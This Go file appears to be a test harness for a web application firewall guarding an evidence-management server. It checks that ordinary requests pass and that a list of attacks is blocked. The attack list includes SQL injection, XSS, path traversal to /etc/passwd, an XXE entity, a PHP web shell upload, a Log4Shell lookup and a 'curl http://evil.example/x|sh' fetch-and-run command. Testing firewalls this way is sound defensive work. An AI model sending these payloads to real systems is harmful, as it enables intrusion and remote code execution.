package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"strings"
	"time"
)

const (
	form     = "application/x-www-form-urlencoded"
	jsonKind = "application/json"
	// A good password, in which rules find SQL, a command and a tag.
	password = `quartz' OR 1=1; <meadow> $(lantern) 71`
)

// request is one that is sent to the server and through the firewall.
type request struct{ method, path, kind, body string }

// proper is what people and programs ask for in a day's work.
var proper = []request{
	{"GET", "/", "", ""}, {"GET", "/evidence", "", ""}, {"GET", "/evidence?q=rey+stop", "", ""}, {"GET", "/evidence?q=O%27Brien", "", ""},
	{"GET", "/evidence?from=2026-11-01T00%3A00&until=2026-11-30T23%3A59&category=use+of+force", "", ""},
	{"GET", "/audit", "", ""}, {"GET", "/audit?person=a.moreno&about=user&outcome=refused", "", ""}, {"GET", "/cameras?q=SD-0", "", ""},
	{"GET", "/people", "", ""}, {"GET", "/roles/administrator", "", ""}, {"GET", "/settings", "", ""}, {"GET", "/posture", "", ""}, {"GET", "/account", "", ""}, {"GET", "/uplinks", "", ""},
	{"GET", "/sign-in?next=%2Fevidence%3Fq%3Dx", "", ""}, {"GET", "/api/", "", ""}, {"GET", "/api/openapi.json", "", ""}, {"GET", "/log/checkpoint", "", ""}, {"GET", "/healthz", "", ""},
	{"GET", "/.well-known/security.txt", "", ""}, {"HEAD", "/evidence", "", ""},
	{"GET", "/api/v1/items?limit=10", "", ""}, {"GET", "/api/v1/events?about=user%3Aunknown", "", ""}, {"GET", "/api/v1/items/0123456789abcdef0123456789abcdef", "", ""},
	{"PUT", "/api/v1/settings/sign_in.notice", jsonKind, `{"value":"This is the agency's own system; its use is watched & recorded.\nMisuse -- also by officers -- is prosecuted (18 U.S.C. § 1030).","reason":"required by CJIS AC-8"}`},
	{"PUT", "/api/v1/settings/access.networks", jsonKind, `{"value":"10.20.0.0/16","reason":"stations only"}`},
	{"POST", "/api/v1/me/confirm", jsonKind, `{"password":"` + password + `"}`},
	{"POST", "/api/v1/groups", jsonKind, `{"name":"Night shift \"B\" (north)"}`},
	{"DELETE", "/api/v1/groups/0123456789abcdef", "", ""},
	{"PUT", "/api/v1/sending", jsonKind, `{"urgent_officers":["B-17"],"categories":[]}`},
	{"POST", "/api/v1/cameras/SD-0/hold", jsonKind, `{"reason":"select all from the night of 11/27; see O'Brien's note"}`},
	{"POST", "/sign-in/passkey", jsonKind, `{"id":"Ym9vdC5pbmk","response":{"clientDataJSON":"eyJ0eXBlIjoid2ViYXV0aG4uZ2V0In0","signature":"MEUCIQ--","userHandle":"L2V0Yy9wYXNzd2Q"}}`},
	{"POST", "/sign-in/passkey/begin", jsonKind, `{}`},
}

// attacks are to be refused before the server.
var attacks = []request{
	{"GET", "/evidence?q=1%27+OR+%271%27%3D%271%27+--+", "", ""},
	{"GET", "/evidence?q=1%27+UNION+SELECT+password%2Clogin+FROM+users--", "", ""},
	{"GET", "/evidence?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", ""},
	{"GET", "/evidence?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "", ""},
	{"GET", "/static/..%2f..%2f..%2fetc%2fpasswd", "", ""}, {"GET", "/evidence?file=../../../../etc/passwd", "", ""},
	{"GET", "/evidence?q=%3Bcat+%2Fetc%2Fpasswd", "", ""}, {"GET", "/evidence?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fx%7D", "", ""},
	{"GET", "/.git/config", "", ""}, {"GET", "/evidence?q=%25{%28%23context%3D1%29}%28java.lang.Runtime%29", "", ""},
	{"POST", "/api/v1/groups", jsonKind, `{"name":"x'; DROP TABLE users; --"}`},
	{"POST", "/api/v1/groups", jsonKind, `{"name":"<script>alert(document.cookie)</script>"}`},
	{"POST", "/api/v1/groups", "text/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`},
	{"POST", "/sign-in", "multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--x--\r\n"},
	{"POST", "/sign-in", form, "login=" + url.QueryEscape("admin' OR 1=1 -- ") + "&password=x"},
	{"TRACE", "/", "", ""}, {"PROPFIND", "/", "", ""},
	{"POST", "/api/v1/groups", jsonKind, strings.Repeat(`{"a":`, 600) + "1" + strings.Repeat("}", 600)},
	{"PUT", "/api/v1/settings/contact.security", jsonKind, `{"value":"mailto:a@b\r\nSet-Cookie: x=y\r\n","reason":"$(curl http://evil.example/x|sh)"}`},
}

type asker struct {
	*http.Client
	agent string
}

func (a *asker) ask(ctx context.Context, at string, q request) (int, string, error) {
	r, err := http.NewRequestWithContext(ctx, q.method, at+q.path, strings.NewReader(q.body))
	if err != nil {
		return 0, "", err
	}
	r.Header.Set("User-Agent", a.agent)
	r.Header.Set("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")
	if q.method != "GET" && q.method != "HEAD" {
		r.Header.Set("Origin", at)
		r.Header.Set("Sec-Fetch-Site", "same-origin")
	}
	if q.kind != "" {
		r.Header.Set("Content-Type", q.kind)
	}
	answer, err := a.Do(r)
	if err != nil {
		return 0, "", err
	}
	defer answer.Body.Close()
	// Each of the server's own answers says so.
	return answer.StatusCode, answer.Header.Get("Content-Security-Policy"), nil
}

func run(ctx context.Context, program string) error {
	ctx, cancel := context.WithTimeout(ctx, 5*time.Minute)
	defer cancel()
	folder, err := os.MkdirTemp("", "waf")
	if err != nil {
		return err
	}
	defer os.RemoveAll(folder)
	if err := os.Chmod(folder, 0o755); err != nil { // nginx may take another user
		return err
	}
	return guarded(ctx, program, folder, func(p place) error {
		jar, err := cookiejar.New(nil)
		if err != nil {
			return err
		}
		a := &asker{&http.Client{
			Jar: jar, Timeout: time.Minute,
			Transport:     &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}, //nolint:gosec // certificates are not what is looked at
			CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
		}, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36"}
		first := url.Values{"token": {p.token}, "name": {"Alba O'Moreno"}, "login": {"a.moreno"}, "password": {password}, "again": {password}}
		if code, _, err := a.ask(ctx, p.outside, request{"POST", "/setup", form, first.Encode()}); err != nil || code != http.StatusSeeOther {
			return fmt.Errorf("the first account, through the firewall: %d, %w", code, err)
		}
		wrong, other := 0, map[string]int{}
		for _, q := range proper {
			want, _, err := a.ask(ctx, p.inside, q)
			if err != nil {
				return err
			}
			got, ours, err := a.ask(ctx, p.outside, q)
			if err != nil {
				return err
			}
			if got != want || ours == "" && q.path != "/log/checkpoint" {
				wrong++
				fmt.Printf("%s %s %s: %d without the firewall, %d through it (the server's own answer: %v)\n", q.method, q.path, q.body, want, got, ours != "")
			}
		}
		for _, q := range attacks {
			code, ours, err := a.ask(ctx, p.outside, q)
			if err != nil {
				return err
			}
			other[fmt.Sprint(code)]++
			if ours != "" || code < 400 {
				wrong++
				fmt.Printf("%s %s %.60s reached the server: %d\n", q.method, q.path, q.body, code)
			}
		}
		fmt.Printf("%d proper requests, %d attacks (answered %v), %d wrong\n", len(proper), len(attacks), other, wrong)
		if wrong > 0 {
			return fmt.Errorf("%d requests were not answered as they should be", wrong)
		}
		return nil
	})
}
